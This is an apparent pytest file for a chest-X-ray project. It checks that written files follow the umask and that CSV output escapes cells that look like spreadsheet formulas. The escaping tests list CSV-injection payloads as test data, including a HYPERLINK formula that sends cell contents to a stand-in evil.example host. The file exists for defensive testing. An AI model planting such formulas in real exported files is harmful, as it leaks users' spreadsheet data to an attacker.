"""What the tool writes: modes that follow the umask (issue 13 item 3) and CSV cells that no
spreadsheet runs as a formula (item 4)."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from cxr_covid import atomic, csv_safe
from cxr_covid.data.manifest import ManifestRow, read_manifest, write_manifest
from cxr_covid.evaluation import report as eval_report
from cxr_covid.evaluation.results import EvaluationReport


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- item 3 ------------------------------------------------------------------------------------


def test_current_umask_reads_without_changing_it() -> None:
    old = os.umask(0o027)
    try:
        assert atomic.current_umask() == 0o027
        assert atomic.current_umask() == 0o027
    finally:
        os.umask(old)


@pytest.mark.parametrize("umask", [0o022, 0o002, 0o077])
def test_written_files_and_folders_get_the_umask_mode(tmp_path: Path, umask: int) -> None:
    old = os.umask(umask)
    try:
        atomic.write_text(tmp_path / "report.md", "# hi\n")
        atomic.write_bytes(tmp_path / "heat.png", b"\x89PNG")
        with atomic.open_for_write(tmp_path / "out.csv") as handle:
            handle.write("a,b\n")
        with atomic.building_dir(tmp_path / "model") as tmp:
            (tmp / "model.json").write_text("{}")
    finally:
        os.umask(old)
    for name in ("report.md", "heat.png", "out.csv"):
        assert _mode(tmp_path / name) == 0o666 & ~umask, name
    assert _mode(tmp_path / "model") == 0o777 & ~umask
    assert _mode(tmp_path / "model" / "model.json") == 0o666 & ~umask


def test_temporary_files_stay_private_until_renamed(tmp_path: Path, umask_022: None) -> None:
    target = tmp_path / "results.csv"
    with atomic.open_for_write(target) as handle:
        handle.write("x\n")
        assert _mode(Path(handle.name)) == 0o600  # others cannot peek at a half-written file
        assert not target.exists()
    assert _mode(target) == 0o644
    with atomic.building_dir(tmp_path / "dataset") as tmp:
        assert _mode(tmp) == 0o700
    assert _mode(tmp_path / "dataset") == 0o755


def test_replacing_a_folder_gives_the_new_one_the_umask_mode(
    tmp_path: Path, umask_022: None
) -> None:
    with atomic.building_dir(tmp_path / "d") as tmp:
        (tmp / "a").write_text("1")
    with atomic.building_dir(tmp_path / "d", replace=True) as tmp:
        (tmp / "a").write_text("2")
    assert _mode(tmp_path / "d") == 0o755
    assert (tmp_path / "d" / "a").read_text() == "2"


# --- item 4 ------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x").png',
    "+cmd.png",
    "-2+3.png",
    "@SUM(A1).png",
    "\tTAB.png",
    "\rCR.png",
    "=1+1",
]
HARMLESS = ["covid-1.png", "/abs/=x.png", "images/=x.png", "-0.5", "1e-06", "+3", "", "a'b"]
TRICKY = ["'=x", "''=x", "'abc", "'", "'-0.5", "''", "'+"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert csv_safe.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
    assert csv_safe.safe_cell(value) == value


@pytest.mark.parametrize("value", HOSTILE + HARMLESS + TRICKY)
def test_the_rule_is_reversible(value: str) -> None:
    text = csv_safe.to_text([[value, 1, 0.5]])
    [[cell, one, half]] = csv_safe.read_rows(text)
    assert (cell, one, half) == (value, "1", "0.5")
    # What a spreadsheet sees: never a cell that starts like a formula.
    [[raw, _one, _half]] = list(csv.reader(io.StringIO(text)))
    assert not raw.startswith(csv_safe.FORMULA_STARTS) or raw in ("-0.5", "+3", "1e-06")


def test_eval_csv_escapes_model_ids_and_sources() -> None:
    from tests.eval.test_report import Y_PRED, _evaluation

    evaluation = _evaluation("m", Y_PRED)
    hostile = dataclasses.replace(
        evaluation,
        model_id='=HYPERLINK("http://evil")',
        test_set=dataclasses.replace(evaluation.test_set, source="@folder/=x"),
    )
    report = EvaluationReport([hostile], [], [], 0.95, 200, 1)
    rows = list(csv.reader(io.StringIO(eval_report.to_csv(report))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "@")) for cell in cells)
    assert '\'=HYPERLINK("http://evil")' in cells and "'@folder/=x" in cells
    assert any(cell == "0.6" for cell in cells)  # numbers stay numbers


def test_manifest_round_trips_formula_like_values_and_keeps_its_hash_rule(tmp_path: Path) -> None:
    row = ManifestRow(
        path="images/covid/=x.png",
        label="covid",
        sha256="0" * 64,
        width=8,
        height=8,
        split="train",
        patient="-p1",
    )
    write_manifest(tmp_path / "manifest.csv", [row])
    text = (tmp_path / "manifest.csv").read_text()
    assert ",'-p1" in text  # escaped on disk
    assert read_manifest(tmp_path / "manifest.csv") == [row]  # exactly restored
